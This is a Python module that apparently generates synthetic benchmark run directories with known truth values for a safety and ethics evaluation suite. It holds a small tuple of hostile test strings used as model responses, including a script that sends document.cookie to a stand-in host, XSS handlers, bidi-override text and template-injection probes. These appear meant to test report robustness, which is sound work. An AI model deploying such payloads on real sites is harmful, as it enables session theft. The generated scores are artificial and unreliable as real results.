"""Run directories of full paper size with a known truth, made in seconds.

What a real run would have found is drawn: each item has a difficulty that all runs share (and
that neighbours of one group share in part), each run has luck of its own. The chance of a right
answer or a harmless response is exactly the truth asked for, so intervals and comparisons can be
held against it. Layout, counts, digests and averages are those of a real run.
"""

from __future__ import annotations

import hashlib
import json
import sqlite3
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from statistics import NormalDist
from typing import Any

import numpy as np

from bfpo_bench.common.statistics import share
from bfpo_bench.run.results import Results, TaskResult
from bfpo_bench.run.store import Store
from bfpo_bench.run.uncertainty import averages
from bfpo_bench.suites import SuiteTask, load_suite
from bfpo_bench.tasks.catalog import find_source

TRUTH = {
    "crows_pairs": 62.0, "bbq": 45.0, "winogrande": 74.0, "ethics_cm": 65.0,
    "ethics_justice": 59.0, "ethics_deontology": 52.0, "ethics_utilitarianism": 70.0,
    "ethics_virtue": 90.0, "moral_permissibility": 48.0, "simple_ethical_questions": 39.0,
    "toxigen": 54.0, "hhh_alignment": 46.0, "advbench": 98.0, "realtoxicityprompts": 87.0,
    "alert": 98.5, "alert_adversarial": 96.0,
}  # fmt: skip
"""Percent by column key: about the paper's Mistral + BFPO."""

ADVERSARIAL = 30_000
"""The paper says "about 30,000" of ALERT Adversarial; no count is pinned."""

GROUPS = {"bbq": 137, "ethics_virtue": 995, "ethics_deontology": 899}
CATEGORIES = ("crime_theft", "hate_women", "self_harm_suicide", "weapon_firearm")
HOSTILE = (
    "<script>fetch('https://example.org/?' + document.cookie)</script>",
    '<img src=x onerror="alert(1)"> <a href="javascript:alert(1)">here</a>',
    "\u202egnihtyna od ton lliw I\u202c \x00\x07\x1b[31mred\x1b[0m",
    "word " * 4000,
    "a" * 20_000,
    "</textarea></script><!-- ]]> {{7*7}} ${7*7}",
)
JUDGE = "harmbench-llama2-13b"


@dataclass(frozen=True)
class Draw:
    """How the items of a run come out.

    Attributes:
        truth: percent by column key; what is not named is as in `TRUTH`.
        seed: of the run's own luck; the items are the same for every seed.
        shared: share of an answer's variance that lies in the item.
        grouped: share of the item's variance that lies in its group, where there are groups.
    """

    truth: Mapping[str, float]
    seed: int = 0
    shared: float = 0.6
    grouped: float = 0.4

    def outcomes(self, key: str, n: int) -> np.ndarray[Any, Any]:
        """Right (1) or wrong (0) for each of n items, ``[n]``."""
        items = np.random.default_rng(_number("items", key))
        own = np.random.default_rng(_number("run", key, self.seed))
        hard = items.standard_normal(n)
        if key in GROUPS:
            group = items.standard_normal(GROUPS[key])[group_of(key, n)]
            hard = self.grouped**0.5 * group + (1 - self.grouped) ** 0.5 * hard
        z = self.shared**0.5 * hard + (1 - self.shared) ** 0.5 * own.standard_normal(n)
        share = {**TRUTH, **self.truth}[key] / 100
        if share in (0, 1):
            return np.full(n, int(share))
        return np.asarray(z < NormalDist().inv_cdf(share)).astype(int)


def group_of(key: str, n: int) -> np.ndarray[Any, Any]:
    """Group of each item: neighbours, of equal size as far as that goes. ``[n]``"""
    return np.arange(n) * GROUPS[key] // n


def synthetic_run(
    folder: Path,
    name: str = "synthetic",
    truth: Mapping[str, float] | None = None,
    seed: int = 0,
    *,
    tasks: tuple[str, ...] | None = None,
    limit: int | None = None,
    weights: str | None = None,
    judge: str = JUDGE,
    second_judge: str | None = None,
    unknown: float = 0.0,
    shared: float = 0.6,
) -> Path:
    """Writes a finished run directory of the paper's suite.

    Args:
        folder: the run directory.
        name: of the model.
        truth: chance of a right answer or a harmless response in percent, by column key.
        seed: of the run's own luck, and the ``seed`` that it records.
        tasks: column keys; None for all 16.
        limit: at most so many items per task, recorded as ``--limit`` is.
        weights: fingerprint; by default made from the name.
        second_judge: another judge that agrees with the first in 9 of 10 verdicts, as
            ``bfpo-bench judge`` would leave it in the store (no results file of its own).
        unknown: share of the first judge's verdicts that are unknown.

    Returns:
        the folder.
    """
    suite = load_suite("paper")
    wanted = [t for t in suite.tasks if tasks is None or _key(t) in tasks]
    draw = Draw(truth or {}, seed, shared)
    folder.mkdir(parents=True)
    cells = {}
    Store(folder / "samples.sqlite").close()
    # Past the store's own methods: a third of a million rows in one transaction.
    database = sqlite3.connect(folder / "samples.sqlite", isolation_level=None)
    database.execute("PRAGMA synchronous=OFF")
    database.execute("BEGIN")
    for spec in wanted:
        task = _Task(spec, draw, limit, judge, second_judge, unknown)
        cells[spec.task] = task.write(database)
    database.execute("COMMIT")
    database.close()
    model = {
        "name": name,
        "weights": weights or hashlib.sha256(name.encode()).hexdigest()[:32],
        "config": "0" * 16,
        "tokenizer": "1" * 16,
        "chat_template": "2" * 16,
        "revision": None,
    }
    judged = any(cell.group == "gen" for cell in cells.values())
    identity: dict[str, Any] = {
        "model": model,
        "backend": "vllm",
        "dtype": "bfloat16",
        "max_length": None,
        "system_prompt": None,
        "suite": {"name": suite.name, "version": suite.version},
        "tasks": {t.task: _settings(t) for t in wanted},
        "data": {
            cell.source["name"]: {
                "variant": cell.source["variant"],
                "digest": cell.source["digest"],
            }
            for cell in cells.values()
        },
        "limit": limit,
        "seed": seed,
        "judge": judge_identity(judge) if judged else None,
    }
    results = Results(
        schema=1,
        bfpo_bench="0.1.0",
        model=model,
        suite={"name": suite.name, "version": suite.version, "demonstration": False},
        backend="vllm",
        judge=identity["judge"],
        seed=seed,
        limit=limit,
        tasks=cells,
        averages=averages(cells, suite.tasks),
        marks=[f"{cell.column}: {mark}" for cell in cells.values() for mark in cell.marks],
    )
    content = {
        "schema": 1,
        "identity": identity,
        "environment": {"packages": {"torch": "2.13.0"}, "python": "3.11", "cpus": 8, "gpus": []},
        "sessions": [{"started": "2026-11-21T00:00:00+00:00", "seconds": {"score": 1.0}}],
    }
    (folder / "run.json").write_text(json.dumps(content, indent=2) + "\n")
    (folder / "results.json").write_text(results.to_json())
    return folder


def judge_identity(name: str) -> dict[str, Any]:
    """What ``run.json`` notes of a judge."""
    return {"judge": name, "kind": "classifier", "version": 1, "card": "3" * 64, "weights": "4"}


def item_id(key: str, index: int) -> str:
    """The id of an item: 16 hex digits, the same in every run."""
    return hashlib.sha256(f"{key}/{index}".encode()).hexdigest()[:16]


Row = tuple[Any, ...]


class _Task:
    """One task of a synthetic run."""

    def __init__(
        self,
        spec: SuiteTask,
        draw: Draw,
        limit: int | None,
        judge: str,
        second_judge: str | None,
        unknown: float,
    ) -> None:
        self.spec, self.key = spec, _key(spec)
        source = find_source(spec.source)
        self.source = source.name
        self.variant = source.default
        self.whole = self.variant.rows or ADVERSARIAL
        self.n = min(limit or self.whole, self.whole)
        self.right = draw.outcomes(self.key, self.whole)[: self.n]
        self.own = np.random.default_rng(_number("details", self.key, draw.seed))
        self.seed = draw.seed
        self.judges = [judge, *([second_judge] if second_judge else [])]
        self.missing = self.own.random(self.n) < unknown
        self.ids = [item_id(self.key, i) for i in range(self.n)]
        self.groups = group_of(self.key, self.whole).tolist() if self.key in GROUPS else []

    def write(self, database: sqlite3.Connection) -> TaskResult:
        """Stores everything of the task; its cell."""
        task = self.spec.task
        rows = ((task, self.ids[i], i, json.dumps(self.row(i))) for i in range(self.n))
        database.executemany("INSERT INTO items VALUES (?,?,?,?)", rows)
        if self.spec.generation is None:
            database.executemany("INSERT INTO scores VALUES (?,?,?,?,?,?,?,?,?)", self.scores())
            values = zip(self.ids, self.right.tolist(), strict=True)
            outcomes = ((task, item, self.spec.metric, float(value)) for item, value in values)
            database.executemany("INSERT INTO outcomes VALUES (?,?,?,?)", outcomes)
            return self.cell(self.right.astype(float), 0)
        database.executemany(
            "INSERT INTO responses VALUES (?,?,?,?,?,?,?,?,?,?,?,NULL,NULL)", self.responses()
        )
        for place, judge in enumerate(self.judges):
            verdicts = self.verdicts(place, judge)
            database.executemany("INSERT INTO verdicts VALUES (?,?,?,?,?,?,?,NULL,NULL)", verdicts)
        harmless = (self.right == 1) & ~self.missing
        return self.cell(harmless.astype(float), int(self.missing.sum()))

    def row(self, i: int) -> dict[str, Any]:
        text = f"{self.spec.column}, item {i}: what would you say about it?"
        if self.key == "ethics_virtue":
            return {"label": i % 2, "scenario": f"Scene {self.groups[i]}.", "trait": f"trait {i}"}
        if self.key == "ethics_deontology":
            return {"label": i % 2, "scenario": f"Scene {self.groups[i]}.", "excuse": f"No, {i}."}
        if self.key == "bbq":
            choices = {"choices": ["A", "B", "C"], "scores": [1, 0, 0]}
            return {
                "inputs": text,
                **choices,
                "category": "age_ambig",
                "group": f"Who {self.groups[i]}?",
            }
        if self.key.startswith("alert"):
            category = CATEGORIES[i % len(CATEGORIES)]
            attack = {"attack_type": ("prefix", "suffix", "role")[i % 3]}
            row = {"prompt": text, "category": category, "id": str(i)}
            return row | (attack if self.key == "alert_adversarial" else {})
        return {"text": text}

    def choices(self) -> int:
        return {"bbq": 3, "simple_ethical_questions": 4}.get(self.key, 2)

    def scores(self) -> Iterator[Row]:
        names, count = self.names("", self.n * self.choices()), self.choices()
        for i, right in enumerate(self.right.tolist()):
            for choice in range(count):
                loglikelihood = -1.0 if (choice == 0) == bool(right) else -2.0
                yield (
                    *(next(names), self.spec.task, self.ids[i], choice),
                    *(f"Question {i}\nAnswer:", f" {choice}", loglikelihood, 0, 0),
                )

    def responses(self) -> Iterator[Row]:
        names = self.names("", self.n)
        for i, right in enumerate(self.right.tolist()):
            text = ("I am sorry, but I cannot help with that. " if right else "Sure: first, ") * 4
            if i % 50 == 49:
                text = HOSTILE[i // 50 % len(HOSTILE)]
            yield (
                *(next(names), self.spec.task, self.ids[i], f"<|user|>\nitem {i}\n<|assistant|>"),
                *(f"question {i} of {self.spec.column}", text, "stop", i, 20, 40, 0),
            )

    def verdicts(self, place: int, judge: str) -> Iterator[Row]:
        agrees = self.own.random(self.n) < (1.0 if place == 0 else 0.9)
        harmful = ((self.right == 1) != agrees).tolist()
        sure = self.own.uniform(0.55, 1.0, self.n).tolist()
        keys = zip(self.names(judge, self.n), self.ids, strict=True)
        for i, (key, item) in enumerate(keys):
            if place == 0 and self.missing[i]:
                yield key, judge, self.spec.task, item, None, None, "neither label"
            else:
                chance = sure[i] if harmful[i] else 1 - sure[i]
                yield key, judge, self.spec.task, item, int(harmful[i]), chance, ""

    def names(self, judge: str, count: int) -> Iterator[str]:
        """Keys of 32 hex digits that grow, so that SQLite only ever appends."""
        head = hashlib.sha256(f"{self.spec.task}/{judge}".encode()).hexdigest()[:8]
        return (f"{head}{self.seed:012x}{i:012x}" for i in range(count))

    def cell(self, values: np.ndarray[Any, Any], unknown: int) -> TaskResult:
        score, stderr = share(list(values))
        digest = self.variant.digest
        right = score / 100
        metrics = {self.spec.metric: right}
        if self.spec.generation is not None:
            metrics |= {"harmful": 1 - right - unknown / self.n, "unknown": unknown / self.n}
            metrics |= {"mean_tokens": 40.0, "cut_off": 0.0}
        note = "no digest of this data is known, so the copy could not be checked"
        return TaskResult(
            task=self.spec.task,
            version=1,
            column=self.spec.column,
            group=self.spec.group,
            metric=self.spec.metric,
            direction=self.spec.direction,
            score=score,
            stderr=stderr,
            n=self.n,
            items=self.whole,
            unknown=unknown,
            cut=0,
            metrics=metrics,
            source={
                "name": self.source,
                "variant": self.variant.name,
                "where": "drawn at random",
                "rows": self.whole,
                "digest": digest or hashlib.sha256(self.source.encode()).hexdigest(),
                "status": "pinned" if digest else "unverified",
            },
            marks=[] if digest else [note],
        )


def _key(spec: SuiteTask) -> str:
    return {"bfpo_bbq_lite": "bbq"}.get(spec.task, spec.task.removeprefix("bfpo_"))


def _settings(spec: SuiteTask) -> dict[str, Any]:
    generation = spec.generation
    return {
        "version": 1,
        "metric": spec.metric,
        "chat_template": spec.chat_template,
        "generation": None if generation is None else generation.as_dict(),
    }


def _number(*parts: object) -> int:
    text = "/".join(map(str, parts))
    return int.from_bytes(hashlib.sha256(text.encode()).digest()[:8], "big")
